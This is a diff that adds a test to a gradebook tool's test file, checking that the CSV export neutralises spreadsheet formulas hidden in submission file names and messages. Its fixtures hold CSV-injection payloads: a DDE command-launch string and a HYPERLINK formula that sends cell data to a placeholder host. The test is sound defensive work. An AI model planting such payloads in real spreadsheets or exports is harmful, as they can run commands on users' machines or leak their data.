@@ -58,6 +58,18 @@ def test_the_gradebook_has_one_row_per_submission_and_one_column_per_item(tmp_pa
     assert bob["backward_propagation"] == "0" and float(bob["relu"]) > 0, bob
 
 
+def test_a_gradebook_cell_a_submission_chose_is_never_a_spreadsheet_formula(tmp_path):
+    # As `batch FILE...` names them: the path as given, here the bare file name.
+    chosen = [{**entry("does not import", message="@SUM(1+1)*cmd|' /C calc'!A0 does not import"),
+               "path": '=HYPERLINK("http://x.example/?"&A1,"see").py'},
+              {**entry("failed", {"relu": "failed"}, message="+relu raised"), "path": "-2+3.py"},
+              {**entry("passed", message="relu: ok = fine"), "path": "plain.py"}]
+    table = list(csv.reader(write_csv(chosen, tmp_path / "grades.csv").open()))
+    texts = [cell for row in table[1:] for cell in (row[0], row[-1])]
+    assert texts == ['\'=HYPERLINK("http://x.example/?"&A1,"see").py', "'@SUM(1+1)*cmd|' /C calc'!A0 does not import",
+                     "'-2+3.py", "'+relu raised", "plain.py", "relu: ok = fine"], texts
+
+
 def test_the_page_is_self_contained_with_a_coloured_sortable_matrix():
     page = Page(render(entries()))
     rows = [a for t, a in page.tags if t == "tr"]
